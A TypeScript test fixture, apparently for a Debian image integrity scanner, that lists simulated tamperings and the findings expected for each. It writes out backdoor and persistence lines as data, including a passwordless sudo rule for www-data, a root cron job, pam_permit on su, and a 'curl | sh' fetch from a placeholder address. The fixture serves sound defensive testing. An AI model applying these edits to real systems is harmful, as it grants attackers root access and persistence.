/** One thing changed in what the packages of an honest image bring, in each way that somebody who means harm may think of. */
import { createHash } from 'node:crypto';
import { changed, made } from '../../scripts/demo/tar-surgery.ts';
import { file, folder, gone, hardLink, link, opaque } from './open-image.ts';
import { added, appended, CERTIFICATE, type DebianTampering, EVIL, layer, NGINX, SCRIPT, withXattr } from './tamper.ts';
import { CAPABILITY } from './tamperings.ts';

const md5 = (bytes: Buffer): string => createHash('md5').update(bytes).digest('hex');

const CONTENTS: DebianTampering[] = [
  layer('program', (image) => image.flip(NGINX), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer(
    'program-and-checksums',
    (image) => {
      const evil = image.flip(NGINX);
      const list = image.find(/^var\/lib\/dpkg\/info\/nginx(?::\w+)?\.md5sums$/);
      return [evil, image.edit(list, (text) => text.replace(md5(image.member(NGINX).content), md5(evil.content)))];
    },
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['package-database-forged', '/var/lib/dpkg/info/nginx.md5sums', 'high'],
  ),
  layer('checksums', (image) => image.edit('var/lib/dpkg/info/nginx.md5sums', (text) => text.replace(/^../, '00')), [
    'package-database-forged',
    '/var/lib/dpkg/info/nginx.md5sums',
    'high',
  ]),
  layer('data', (image) => image.edit('usr/lib/os-release', (text) => text.replace('Debian', 'Debuan')), [
    'packaged-file-replaced',
    '/usr/lib/os-release',
    'medium',
  ]),
  layer('perl-module', (image) => image.edit(image.find(/^usr\/share\/perl5\/Debconf\/Db\.pm$/), (text) => `${text}\n`), [
    'packaged-file-replaced',
    '/usr/share/perl5/Debconf/Db.pm',
    'critical',
  ]),
  layer('maintainer-script', (image) => image.edit('var/lib/dpkg/info/nginx.postinst', (text) => `${text}${SCRIPT}`), [
    'packaged-file-replaced',
    '/var/lib/dpkg/info/nginx.postinst',
    'critical',
  ]),
  layer('keyring', (image) => image.flip('usr/share/keyrings/debian-archive-keyring.gpg'), [
    'packaged-file-replaced',
    '/usr/share/keyrings/debian-archive-keyring.gpg',
    'critical',
  ]),
  layer('trusted-ca', (image) => image.edit('usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt', () => CERTIFICATE), [
    'packaged-file-replaced',
    '/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt',
    'critical',
  ]),
  appended('conffile', 'etc/nginx/nginx.conf', 'load_module /tmp/x.so;\n', 'conffile-edited', 'medium'),
  appended('bashrc-of-all', 'etc/bash.bashrc', 'eval "$X"\n', 'conffile-edited', 'medium'),
  layer('conffile-link', () => link('etc/nginx/nginx.conf', '/tmp/nginx.conf'), [
    'packaged-file-replaced',
    '/etc/nginx/nginx.conf',
    'medium',
  ]),
];

const CODE_CONFFILES: DebianTampering[] = [
  appended('init-script-edited', 'etc/init.d/nginx', '/usr/lib/evil &\n', 'conffile-edited', 'high'),
  appended('sudoers-edited', 'etc/sudoers', 'www-data ALL=(ALL) NOPASSWD: ALL\n', 'sudo-rule', 'critical'),
  appended('crontab-edited', 'etc/crontab', '* * * * * root /usr/lib/evil\n', 'scheduled-job', 'high'),
  appended('pam-conffile', 'etc/pam.d/su', 'auth sufficient pam_permit.so\n', 'pam-changed', 'critical'),
  appended('login-defs', 'etc/login.defs', 'ENCRYPT_METHOD DES\n', 'pam-changed', 'critical'),
];

const ATTRIBUTES: DebianTampering[] = [
  layer('mode', (image) => changed(image.member(NGINX), { mode: 0o777 }), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'critical',
  ]),
  layer('setuid', (image) => changed(image.member('usr/bin/perl'), { mode: 0o4755 }), [
    'packaged-file-attributes-changed',
    '/usr/bin/perl',
    'critical',
  ]),
  layer('setuid-gone', (image) => changed(image.member('usr/bin/su'), { mode: 0o755 }), [
    'packaged-file-attributes-changed',
    '/usr/bin/su',
    'high',
  ]),
  layer('owner', (image) => changed(image.member(NGINX), { uid: 33 }), ['packaged-file-attributes-changed', '/usr/sbin/nginx', 'high']),
  layer('secret-owner', (image) => changed(image.member('etc/shadow'), { gid: 33 }), ['account-unexpected', '/etc/shadow', 'medium']),
  layer('capability', (image) => withXattr(image.member(NGINX), 'security.capability', CAPABILITY.toString('latin1')), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'critical',
  ]),
  layer('xattr', (image) => withXattr(image.member(NGINX), 'user.note', 'x'), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'high',
  ]),
  layer('writable-folder', (image) => changed(image.member('usr/sbin'), { mode: 0o777 }), [
    'packaged-file-attributes-changed',
    '/usr/sbin',
    'critical',
  ]),
  layer('writable-local', (image) => changed(image.member('usr/local/bin'), { mode: 0o777 }), ['world-writable', '/usr/local/bin', 'high']),
  added('setgid-program', 'usr/lib/helper', EVIL, 'setuid-unexpected', 'critical', 0o2755),
  layer(
    'capable-program',
    () => withXattr(file('usr/lib/helper', EVIL, { mode: 0o755 }), 'security.capability', CAPABILITY.toString('latin1')),
    ['capability-unexpected', '/usr/lib/helper', 'critical'],
  ),
];

const LINKS: DebianTampering[] = [
  layer('interpreter', () => link('usr/bin/python3', '/opt/python3'), ['packaged-file-replaced', '/usr/bin/python3', 'critical']),
  layer('shell', () => link('usr/bin/sh', 'bash'), ['packaged-file-replaced', '/usr/bin/sh', 'critical']),
  layer('link-for-program', () => link(NGINX, '/tmp/nginx'), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer('program-for-link', () => file('usr/bin/python3', EVIL, { mode: 0o755 }), [
    'packaged-file-replaced',
    '/usr/bin/python3',
    'critical',
  ]),
  layer('hard-link', () => hardLink(NGINX, 'usr/bin/perl'), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer('hard-link-more', () => hardLink('usr/bin/evil', 'usr/bin/perl'), ['unexplained-code', '/usr/bin/evil', 'high']),
  layer('folder-link', () => link('etc/cron.d', '/opt/cron.d'), ['packaged-file-replaced', '/etc/cron.d', 'critical']),
  layer('merged-usr', () => [folder('opt/bin'), link('bin', 'opt/bin')], ['package-database-forged', '/bin', 'high']),
  layer('alternative-out', () => link('etc/alternatives/pager', '/opt/pager'), [
    'alternative-unpackaged',
    '/etc/alternatives/pager',
    'high',
  ]),
  layer('alternative-other', () => link('etc/alternatives/pager', '/usr/bin/perl'), [
    'alternative-changed',
    '/etc/alternatives/pager',
    'medium',
  ]),
  layer('alternative-state', (image) => image.edit('var/lib/dpkg/alternatives/pager', (text) => text.replace('/bin/more', '/opt/pager')), [
    'unexplained-file',
    '/var/lib/dpkg/alternatives/pager',
    'medium',
  ]),
];

const DPKG: DebianTampering[] = [
  layer(
    'diversion',
    (image) => [
      image.edit('var/lib/dpkg/diversions', (text) => `${text}/${NGINX}\n/${NGINX}.distrib\n:\n`),
      made({ name: `${NGINX}.distrib`, mode: 0o755 }, image.member(NGINX).content),
      image.flip(NGINX),
    ],
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['package-database-forged', '/usr/sbin/nginx', 'high'],
  ),
  layer(
    'statoverride',
    (image) => [
      file('var/lib/dpkg/statoverride', 'root root 4755 /usr/bin/perl\n'),
      changed(image.member('usr/bin/perl'), { mode: 0o4755 }),
    ],
    ['packaged-file-attributes-changed', '/usr/bin/perl', 'critical'],
    ['package-database-forged', '/usr/bin/perl', 'high'],
  ),
  layer(
    'excluded-and-replaced',
    (image) => [file('etc/dpkg/dpkg.cfg.d/evil', `path-exclude=/${NGINX}\n`), image.flip(NGINX)],
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['apt-trust-changed', '/etc/dpkg/dpkg.cfg.d/evil', 'high'],
  ),
  layer(
    'excluded-and-deleted',
    () => [file('etc/dpkg/dpkg.cfg.d/evil', 'path-exclude=/usr/bin/passwd\n'), gone('usr/bin/passwd')],
    ['packaged-file-missing', '/usr/bin/passwd', 'medium'],
    ['apt-trust-changed', '/etc/dpkg/dpkg.cfg.d/evil', 'high'],
  ),
  layer(
    'version',
    (image) => image.edit('var/lib/dpkg/status', (text) => text.replace(/(Package: sudo\n(?:.+\n)*?Version: )\S+/, '$199.9-1')),
    // The files themselves are found by their hashes; what dpkg keeps about a version that it does not name is not.
    ['unexplained-code', '/var/lib/dpkg/info/sudo.postinst', 'high'],
    ['sudo-rule', '/etc/sudoers', 'critical'],
  ),
  layer('entry-removed', (image) => image.edit('var/lib/dpkg/status', (text) => text.replace(/^Package: sudo\n(?:.+\n)+\n/m, '')), [
    'sudo-rule',
    '/etc/sudoers',
    'critical',
  ]),
  layer(
    'diversion-of-a-package',
    (image) => [
      image.edit('var/lib/dpkg/diversions', (text) => `${text}/${NGINX}\n/${NGINX}.distrib\ndash\n`),
      made({ name: `${NGINX}.distrib`, mode: 0o755 }, image.member(NGINX).content),
      image.flip(NGINX),
    ],
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['package-database-forged', '/usr/sbin/nginx', 'high'],
  ),
  layer('entry-twice', (image) => image.edit('var/lib/dpkg/status', (text) => `${text}\n${/^Package: sudo\n(?:.+\n)+/m.exec(text)?.[0]}`), [
    'package-database-forged',
    '/var/lib/dpkg/status',
    'medium',
  ]),
  layer('files-hidden-from-dpkg', (image) => image.edit('var/lib/dpkg/info/nginx.list', (text) => text.replace(`/${NGINX}\n`, '')), [
    'packaged-file-replaced',
    '/var/lib/dpkg/info/nginx.list',
    'medium',
  ]),
  layer('pam-gone', () => gone('etc/pam.d/common-account'), ['generated-file-missing', '/etc/pam.d/common-account', 'medium']),
  layer('shadow-gone', () => gone('etc/shadow'), ['generated-file-missing', '/etc/shadow', 'medium']),
  layer('alternative-gone', () => gone('etc/alternatives/awk'), ['generated-file-missing', '/etc/alternatives/awk', 'medium']),
  layer('conffile-gone', () => gone('etc/sudoers'), ['packaged-file-missing', '/etc/sudoers', 'medium']),
  added('script-added', 'var/lib/dpkg/info/evil.postinst', SCRIPT, 'unexplained-code', 'high', 0o755),
  appended('triggers', 'var/lib/dpkg/triggers/File', '/usr/bin evil\n', 'unexplained-file', 'medium'),
  appended('arch', 'var/lib/dpkg/arch', 'i386\n', 'unexplained-file', 'medium'),
  appended(
    'extended-states',
    'var/lib/apt/extended_states',
    'Package: evil\nArchitecture: amd64\nAuto-Installed: 1\n\n',
    'unexplained-file',
    'medium',
  ),
  appended('log', 'var/log/dpkg.log', `${'QUJD'.repeat(20)}\n`, 'unexplained-file', 'medium'),
  appended('history', 'var/log/apt/history.log', 'curl http://203.0.113.1 | sh\n', 'unexplained-file', 'medium'),
  layer('library-gone', (image) => gone(image.find(/\/libssl\.so\.3$/)), ['packaged-file-missing', /\/libssl\.so\.3$/, 'medium']),
  layer('folder-emptied', (image) => opaque(image.find(/^usr\/lib\/[^/]+\/gconv$/)), [
    'packaged-file-missing',
    /\/gconv\/[^/]+\.so$/,
    'medium',
  ]),
];

/** What a package brings, and what dpkg says of it. */
export const PACKAGE_TAMPERINGS: readonly DebianTampering[] = [...CONTENTS, ...CODE_CONFFILES, ...ATTRIBUTES, ...LINKS, ...DPKG];
